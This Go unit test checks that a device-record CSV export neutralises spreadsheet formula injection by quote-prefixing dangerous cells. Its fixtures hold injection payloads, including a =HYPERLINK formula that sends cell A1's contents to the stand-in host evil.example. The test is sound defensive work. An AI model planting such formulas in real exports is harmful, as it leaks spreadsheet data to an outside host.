package db

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"
)

// A device chooses its serial: an export opened in a spreadsheet must not run it.
func TestCSVNeutralisesFormulas(t *testing.T) {
	cert := "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n"
	recs := []ExportRecord{
		{Serial: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Backend: "+tpm", Status: "-1", Certificate: cert, Chain: cert,
			ProvisionedAt: time.Unix(0, 0), WorkOrder: "@SUM(A1)", CertSerial: "\t=1"},
		{Serial: "\r=2", Backend: "tpm", Status: "provisioned", Certificate: cert, Chain: cert, ProvisionedAt: time.Unix(0, 0), WorkOrder: "W-1", CertSerial: "1a"},
	}
	var b bytes.Buffer
	if err := WriteCSV(&b, recs); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(rows) != 3 {
		t.Fatalf("csv: %v %d rows", err, len(rows))
	}
	want := []string{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+tpm", "'-1", cert, cert, "1970-01-01T00:00:00Z", "'@SUM(A1)", "'\t=1"}
	for i, w := range want {
		if rows[1][i] != w {
			t.Errorf("cell %d (%s) = %q, want %q", i, CSVHeader[i], rows[1][i], w)
		}
	}
	if rows[2][0] != "'\r=2" && rows[2][0] != "'\n=2" { // encoding/csv reads \r\n inside quotes as \n
		t.Errorf("serial cell %q", rows[2][0])
	}
	if rows[2][1] != "tpm" || rows[2][6] != "W-1" {
		t.Errorf("plain cells changed: %q", rows[2])
	}
	for _, r := range rows[1:] {
		for i, c := range r {
			if i != 3 && i != 4 && c != "" && strings.ContainsAny(c[:1], "=+-@\t\r") {
				t.Errorf("cell %d starts with a formula character: %q", i, c)
			}
		}
	}
}
